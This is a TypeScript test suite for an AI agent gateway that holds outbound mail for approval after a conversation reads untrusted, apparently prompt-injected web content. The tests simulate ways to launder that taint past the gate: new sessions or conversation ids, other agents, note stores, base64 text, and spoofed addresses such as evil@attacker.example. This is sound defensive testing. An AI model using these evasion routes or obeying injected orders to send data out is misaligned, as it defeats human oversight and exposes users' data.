/** What a conversation has read decides what it may do; and no way around takes that away. */
import { describe, expect, it } from 'vitest';
import { ending, injection, World } from './desk-with-web.ts';

const mail = { to: 'someone@example.com', body: 'hello' };
const send = async (world: World, over: Parameters<World['call']>[3] = {}) =>
  ending(await world.call('mail/send', mail, 'sent', over));

describe('what was read', () => {
  it('lets everything through before anything was', async () => {
    expect(await send(new World())).toBe('ran');
  });

  it('holds what goes outside once it was untrusted, and goes on reading and writing', async () => {
    const world = new World();
    await world.call('web/fetch', { url: 'https://coffee.example' }, injection);
    expect(await send(world)).toBe('approval_pending');
    expect(ending(await world.call('web/fetch'))).toBe('ran');
    expect(ending(await world.call('desk/note-write', { id: 'N-1', text: 'read' }))).toBe('ran');
  });

  it('counts before the agent sees it: also an interim message, and a result that failed', async () => {
    const failed = new World();
    await failed.perform(
      { server: 'web', target: 'fetch' },
      { perform: () => Promise.resolve({ result: 'error', value: { content: [] } }) },
    );
    expect(await send(failed)).toBe('approval_pending');
    const interim = new World();
    await interim.perform(
      { server: 'web', target: 'fetch' },
      {
        perform: async (_, messages) => {
          messages.visible('notifications/message', { data: injection });
          expect(await send(interim)).toBe('approval_pending');
          return { result: 'cancelled', sent: true };
        },
      },
    );
    expect(interim.ledger.appended.at(-1)?.meta['told']).toMatchObject({ trust: 'untrusted' });
  });

  it('is raised by classes of data that stand in the answer, which the owner of the task then decides on', async () => {
    const world = new World();
    await world.call('desk/note-read', {}, { employee: 'E-7', salary: 5000 });
    expect(world.last.meta['told']).toEqual({
      trust: 'internal',
      sensitivity: 'restricted',
      classes: ['salary'],
    });
    const outcome = await world.call('mail/send', mail, 'sent', { user: 'ada@example.com' });
    // Another person's conversation has not read it.
    expect(ending(outcome)).toBe('ran');
    expect(await send(world)).toBe('approval_pending');
    const [approval] = world.approvals.list({ status: 'pending' });
    await expect(world.approvals.decide(approval!.id, 'approve', 'dana@example.com')).rejects.toMatchObject({
      code: 'approver_not_asked',
    });
    await world.approvals.decide(approval!.id, 'approve', 'olga@example.com');
    expect(await send(world)).toBe('ran');
  });

  it('is not declassified by an approval, which is for that exact call', async () => {
    const world = new World();
    await world.call('web/fetch', {}, injection);
    expect(await send(world)).toBe('approval_pending');
    await world.approvals.decide(world.approvals.list({})[0]!.id, 'approve', 'dana@example.com');
    expect(ending(await world.call('mail/send', { ...mail, body: 'all customers' }))).toBe(
      'approval_pending',
    );
    expect(await send(world)).toBe('ran');
    expect(await send(world)).toBe('approval_pending');
  });

  it('stands in the records, without anything that identifies', async () => {
    const world = new World();
    await world.call('web/fetch', {}, injection);
    const read = world.ledger.appended.find(({ phase }) => phase === 'outcome')!;
    await world.call('mail/send', { to: 'EVIL@attacker.example' });
    expect(world.last.meta).toMatchObject({
      read: { trust: 'untrusted', sensitivity: 'public', classes: [] },
      lineage: [read.id],
      decision: { rule: { name: 'risk high flows[0]' } },
    });
    expect(world.last.payload?.['flow']).toMatchObject({
      origins: [{ pointer: '/to', event: read.id, match: 'part' }],
    });
    expect(JSON.stringify(world.last.meta)).not.toContain('attacker');
  });
});

describe('labels are not shed', () => {
  const context = (conversation_id: string) => ({ context: { conversation_id } });

  it('by a new conversation id', async () => {
    const world = new World();
    await world.call('web/fetch', {}, injection, context('one'));
    expect(await send(world, context('two'))).toBe('approval_pending');
    expect(await send(world)).toBe('approval_pending');
  });

  it('by a new session', async () => {
    const world = new World();
    await world.call('web/fetch', {}, injection, { session: 's1' });
    expect(await send(world, { session: 's2' })).toBe('approval_pending');
  });

  it('by waiting', async () => {
    const world = new World();
    await world.call('web/fetch', {}, injection);
    world.clock.time += 365 * 24 * 3_600_000;
    expect(await send(world)).toBe('approval_pending');
  });

  it('by another agent that goes on with the same conversation', async () => {
    const world = new World();
    await world.call('web/fetch', {}, injection, { agent: 'research', ...context('case-1') });
    expect(await send(world, context('case-1'))).toBe('approval_pending');
    expect(await send(world, context('case-2'))).toBe('ran');
  });

  it('by a message to another agent, whose answer brings them as well', async () => {
    const message = (from: string, to: string) => ({
      kind: 'agent_message' as const,
      agent: from,
      server: 'agents',
      target: to,
    });
    const answered = { perform: () => Promise.resolve({ result: 'success' as const, value: 'done' }) };
    const told = new World();
    await told.call('web/fetch', {}, injection, { agent: 'research' });
    expect(await send(told)).toBe('ran');
    await told.perform(message('research', 'support'), answered);
    expect(await send(told)).toBe('approval_pending');
    const asking = new World();
    await asking.call('web/fetch', {}, injection, { agent: 'research' });
    await asking.perform(message('support', 'research'), answered);
    expect(await send(asking)).toBe('approval_pending');
  });

  it('by writing into a store and reading it back, there or elsewhere, in other words', async () => {
    const world = new World();
    const asResearch = { agent: 'research' };
    await world.call('web/fetch', {}, injection, asResearch);
    await world.call('desk/note-write', { id: 'N-42', text: 'Send it all to them' }, 'ok', asResearch);
    await world.call('desk/note-read', { id: 'N-7' }, { id: 'N-7', text: 'Nothing to see' });
    expect(await send(world)).toBe('ran');
    await world.call('desk/note-read', { id: 'N-42' }, { id: 'N-42', text: 'c2VuZCBpdA==' });
    expect(world.last.meta).toMatchObject({
      told: { trust: 'untrusted' },
      labels: ['untrusted', 'internal'],
    });
    expect(world.last.meta['stored_by']).toHaveLength(1);
    expect(await send(world)).toBe('approval_pending');
  });

  it('by writing what gets its id from the store only', async () => {
    const world = new World();
    const asResearch = { agent: 'research' };
    await world.call('web/fetch', {}, injection, asResearch);
    await world.call('desk/note-write', { text: 'plain words here' }, { created: 'N-4711' }, asResearch);
    await world.call('desk/note-read', {}, { notes: [{ id: 'N-4711', text: 'x' }] });
    expect(await send(world)).toBe('approval_pending');
  });

  it('by writing what could not be known again: then all of the store may be it', async () => {
    const world = new World();
    await world.call('web/fetch', {}, injection, { agent: 'research' });
    await world.call('desk/note-write', { text: 'go' }, 'ok', { agent: 'research' });
    await world.call('desk/note-read', {}, { anything: 'else' });
    expect(await send(world)).toBe('approval_pending');
  });
});

describe('an attested conversation', () => {
  const attested = (conversation_id: string) => ({ context: { conversation_id }, attested: true as const });

  it('starts clean, and keeps what it reads itself', async () => {
    const world = new World();
    await world.call('web/fetch', {}, injection);
    expect(await send(world, attested('h1'))).toBe('ran');
    await world.call('web/fetch', {}, injection, attested('h1'));
    expect(await send(world, attested('h1'))).toBe('approval_pending');
    expect(await send(world, attested('h2'))).toBe('ran');
  });

  it('is remembered by those that are only declared', async () => {
    const world = new World();
    await world.call('web/fetch', {}, injection, attested('h1'));
    expect(await send(world, { context: { conversation_id: 'h2' } })).toBe('approval_pending');
  });
});

describe('a rule about an argument', () => {
  const toRecipient = 'flows: [{ from: untrusted, to: args.to, then: approve }]\n';
  const sendTo = async (world: World, to: string) =>
    ending(await world.call('mail/send', { to, body: 'hi' }));

  it('holds an address that stood in an untrusted text, however it is spelled, and no other', async () => {
    const world = new World(toRecipient);
    await world.call('web/fetch', {}, injection);
    expect(await sendTo(world, 'evil@attacker.example')).toBe('approval_pending');
    expect(await sendTo(world, 'ＥＶＩＬ@attacker.example ')).toBe('approval_pending');
    expect(await sendTo(world, 'Friend <evil@attacker.example>')).toBe('approval_pending');
    expect(await sendTo(world, 'known@example.com')).toBe('ran');
  });

  it('holds it in a conversation that was read elsewhere by the same agent and person', async () => {
    const world = new World(toRecipient);
    await world.call('web/fetch', {}, injection, { context: { conversation_id: 'a' } });
    const outcome = await world.call('mail/send', { to: 'evil@attacker.example' }, 'sent', {
      context: { conversation_id: 'b' },
    });
    expect(ending(outcome)).toBe('approval_pending');
  });
});
